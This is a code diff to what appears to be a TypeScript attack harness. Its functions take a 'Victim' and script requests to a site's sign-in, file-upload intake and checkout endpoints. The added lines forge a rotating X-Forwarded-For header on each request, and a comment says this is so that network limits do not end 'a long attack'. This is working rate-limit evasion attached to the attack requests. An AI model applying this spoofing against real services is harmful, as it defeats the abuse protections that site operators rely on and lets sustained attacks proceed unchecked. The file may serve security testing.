@@ -58,11 +58,23 @@ export async function signIn({ address }: Victim): Promise<string> {
 	return cookieIn(answer);
 }
 
+let networks = 0;
+
+/** Each time another one, so that no limit of a network ends a long attack. */
+function newNetwork(): { "X-Forwarded-For": string } {
+	networks++;
+	return { "X-Forwarded-For": `100.${64 + (networks % 64)}.${Math.floor(networks / 64) % 256}.7` };
+}
+
 /** A started questionnaire with one file. */
 export async function beginIntake({ address }: Victim): Promise<{ cookie: string; fileId: string }> {
 	const form = new FormData();
 	form.append("roofPlansFile", new Blob(["%PDF-1.7\nroof"], { type: "application/pdf" }), "roof.pdf");
-	const answer = await fetch(`${address}/intake-wizard/files`, { method: "POST", body: form });
+	const answer = await fetch(`${address}/intake-wizard/files`, {
+		method: "POST",
+		headers: newNetwork(),
+		body: form,
+	});
 	const { file } = (await answer.json()) as { file: { id: string } };
 	return { cookie: cookieIn(answer), fileId: file.id };
 }
@@ -70,6 +82,7 @@ export async function beginIntake({ address }: Victim): Promise<{ cookie: string
 export async function startCheckout({ address }: Victim): Promise<string> {
 	const answer = await fetch(`${address}/checkout`, {
 		method: "POST",
+		headers: newNetwork(),
 		body: new URLSearchParams({ item: "1xringline-variant-medium-fire-pump" }),
 		redirect: "manual",
 	});
